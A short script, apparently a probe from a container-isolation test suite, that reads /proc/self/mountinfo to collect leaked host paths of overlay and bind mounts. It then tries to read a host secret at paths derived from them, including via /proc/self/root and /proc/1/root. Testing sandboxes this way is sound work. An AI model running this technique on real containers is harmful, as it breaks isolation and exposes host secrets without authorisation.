# Host secret through leaked host paths: /proc/self/mountinfo shows the
# host's paths of the overlay layers and of the files Docker binds in; try
# the secret's path, and paths next to what leaked, from inside.
host_path = ARGS[0]
marker = ARGS[1]
leaked = set()
with open("/proc/self/mountinfo") as f:
    for line in f:
        parts = line.split()
        opts = parts[-1]
        for o in opts.split(","):
            if "=" in o:
                k, v = o.split("=", 1)
                if k in ("upperdir", "workdir", "lowerdir"):
                    for d in v.split(":"):
                        leaked.add(d)
        if parts[3] != "/":
            leaked.add(parts[3])
leaked = sorted(p for p in leaked if p.startswith("/"))
example = sorted(leaked, key=lambda p: (p.count("/"), len(p)))[-1] if leaked else "-"
info("host paths leaked by /proc/self/mountinfo: %d, e.g. %s" % (len(leaked), example))
candidates = [host_path]
for p in leaked:
    # walk up from a leaked path and look for the secret's last two components
    parts = p.split("/")
    for i in range(len(parts) - 1, 1, -1):
        base = "/".join(parts[:i])
        candidates.append(base + "/" + "/".join(host_path.split("/")[-2:]))
found = None
for c in candidates:
    for prefix in ("", "/proc/self/root", "/proc/1/root"):
        try:
            with open(prefix + c) as f:
                data = f.read()
            if marker in data:
                found = "%s%s: %s" % (prefix, c, data.strip())
        except OSError:
            pass
if found:
    succeeded(found)
else:
    failed("%d candidate paths, none readable" % (len(candidates) * 3))
